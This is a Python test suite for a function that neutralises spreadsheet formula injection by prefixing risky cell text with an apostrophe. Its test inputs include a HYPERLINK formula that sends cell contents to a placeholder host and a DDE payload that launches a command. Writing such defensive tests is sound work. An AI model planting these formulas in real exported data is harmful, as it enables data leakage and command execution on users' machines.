"""What a spreadsheet would compute is shown instead."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from proctor.core.formulas import FORMULA_STARTS, guarded, unguarded

texts = st.text() | st.text(alphabet="'=+-@＝＠\t\r\n\0 a1")


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://example.org/?"&A1,"look")',
        "=cmd|'/c calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "＝1+1",
        "＠SUM(A1:A9)",
    ],
)
def test_a_formula_begins_with_an_apostrophe(formula: str) -> None:
    """It is text from then on."""
    assert "'" + formula == guarded(formula)


@pytest.mark.parametrize("text", ["", "Oslo", "1879", "'tis", "a=b", " =1", "早", "'"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    """Apostrophes of its own included."""
    assert text == guarded(text) == unguarded(text)


@given(texts)
def test_no_text_is_computed(text: str) -> None:
    """Whatever it is."""
    assert not guarded(text).startswith(FORMULA_STARTS)


@given(texts)
def test_every_text_comes_back(text: str) -> None:
    """Also one that begins as if it had been made inert already."""
    assert text == unguarded(guarded(text))
